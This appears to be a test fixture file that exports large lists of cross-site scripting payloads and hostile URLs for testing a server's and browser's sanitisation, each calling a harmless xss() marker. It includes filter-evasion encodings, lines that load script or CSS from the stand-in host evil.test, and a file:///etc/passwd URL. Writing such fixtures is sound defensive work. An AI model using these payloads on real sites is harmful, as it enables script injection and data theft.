// What people write into names, messages, embeds and file names when they want a page to run it; used by tests of the server and of the browser.
// Each one that runs calls xss(), so that a browser can tell.

const tags = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'iframe', 'input autofocus', 'details open', 'marquee', 'select autofocus', 'textarea autofocus', 'math', 'object data=x', 'embed src=x', 'form', 'button', 'a href=#', 'style', 'link rel=stylesheet href=x', 'meta']
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onclick', 'onmouseover', 'onanimationstart']
const handlers = tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=xss()>`))

const markup = [
  '<script>xss()</script>', '<SCRIPT>xss()</SCRIPT>', '<scr<script>ipt>xss()</scr</script>ipt>', '<script src=//evil.test/x.js></script>', '<script/src=data:,xss()></script>', '<script\n>xss()</script\n>', '</script><script>xss()</script>',
  '</style><script>xss()</script>', '</title><script>xss()</script>', '</textarea><script>xss()</script>', '--><script>xss()</script>', '<!--><script>xss()</script>-->', '<![CDATA[<script>xss()</script>]]>', ']]><script>xss()</script>',
  '<svg><script>xss()</script></svg>', '<svg><animate onbegin=xss() attributeName=x dur=1s>', '<svg><a xlink:href="javascript:xss()"><text x=20 y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>', '<svg/onload=xss()//',
  '<math><mi xlink:href="javascript:xss()">x</mi></math>', '<math><mtext><table><mglyph><style><img src=x onerror=xss()>', '<iframe src="javascript:xss()"></iframe>', '<iframe srcdoc="<script>parent.xss()</script>"></iframe>', '<object data="javascript:xss()"></object>',
  '<embed src="javascript:xss()">', '<a href="javascript:xss()">x</a>', '<a href=" javascript:xss()">x</a>', '<a href="java\nscript:xss()">x</a>', '<a href="&#106;avascript:xss()">x</a>', '<form action="javascript:xss()"><button>x</button></form>',
  '<button formaction="javascript:xss()">x</button>', '<isindex action=javascript:xss() type=image>', '<meta http-equiv="refresh" content="0;url=javascript:xss()">', '<base href="javascript:xss()//">', '<link rel="import" href="data:text/html,<script>xss()</script>">',
  '<style>@import "//evil.test/x.css";</style>', '<style>body{background:url(//evil.test/?leak)}</style>', '<div style="background:url(javascript:xss())">', '<div style="width:expression(xss())">', '<table background="javascript:xss()">', '<img src="x" srcset="x" onerror="xss()">',
  '<img src=`x`onerror=xss()>', '<img/src/onerror=xss()>', '<img src=x:x onerror\u000b=xss()>', '<img\u0000src=x onerror=xss()>', '<img src=x onerror="&#120;&#115;&#115;()">', '"><img src=x onerror=xss()>', "'><img src=x onerror=xss()>", '`><img src=x onerror=xss()>', '" autofocus onfocus=xss() x="',
  "' autofocus onfocus=xss() x='", '" onmouseover="xss()', "' onmouseover='xss()", '" style="animation-name:x" onanimationstart="xss()', '=xss()', 'x" href="javascript:xss()', '<noscript><p title="</noscript><img src=x onerror=xss()>">', '<template><script>xss()</script></template>',
  '<xmp><img alt="</xmp><img src=x onerror=xss()>"></xmp>', '<plaintext><script>xss()</script>', '<frameset onload=xss()>', '<portal src="javascript:xss()">', '<dialog open onclose=xss()>', '<slot onslotchange=xss()>', '{{constructor.constructor("xss()")()}}', '${xss()}', '#{xss()}', '<%= xss() %>', '[[${xss()}]]',
  '&lt;script&gt;xss()&lt;/script&gt;', '&#60;script&#62;xss()&#60;/script&#62;', '\\u003cscript\\u003exss()\\u003c/script\\u003e', '%3Cscript%3Exss()%3C/script%3E', '＜script＞xss()＜/script＞', '‹script›xss()‹/script›', '\u202e>tpircs<xss()', '\ufeff<script>xss()</script>', '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  '<\u0000script>xss()</script>', '<script\u2028>xss()</script>', '\ud800<script>xss()</script>', '[x](javascript:xss())', '![x](x"onerror="xss())', '<javascript:xss()>', '<https://x.test/" onmouseover="xss()>', 'https://x.test/"onmouseover="xss()', "https://x.test/'onmouseover='xss()", 'https://x.test/<script>xss()</script>',
  'https://x.test/`onclick=xss()`', 'https://a@x.test/"><script>xss()</script>', '@everyone <script>xss()</script>', '||<script>xss()</script>||', '```html\n<script>xss()</script>\n```', '<@123><script>xss()</script>', '<:emoji:1><img src=x onerror=xss()>',
]

/** Texts that try to become markup. */
export const xssTexts: readonly string[] = [...markup, ...handlers]

/** Addresses that try to run something or to leave https. */
export const xssUrls: readonly string[] = [
  'javascript:xss()', 'JaVaScRiPt:xss()', ' javascript:xss()', '\tjavascript:xss()', 'java\tscript:xss()', 'java\nscript:xss()', 'javascript\u0000:xss()', 'javascript://%0axss()', 'javascript://https://x.test/%0axss()', '&#106;avascript:xss()', 'data:text/html,<script>xss()</script>',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=xss()>', 'vbscript:xss()', 'file:///etc/passwd', 'blob:https://x.test/1', 'filesystem:https://x.test/1', 'http://x.test/', '//x.test/', '/\\x.test', 'ftp://x.test', 'about:blank', 'view-source:javascript:xss()',
  'https:javascript:xss()', 'https://user:pass@x.test/', 'https://x.test/" onclick="xss()', "https://x.test/' onclick='xss()", 'https://x.test/><script>xss()</script>', 'https://x.test/#"><img src=x onerror=xss()>', 'https://', 'https://[', 'ｊavascript:xss()', 'feed:javascript:xss()', 'jar:https://x.test!/', 'intent://x#Intent;scheme=javascript;end', 'x',
]
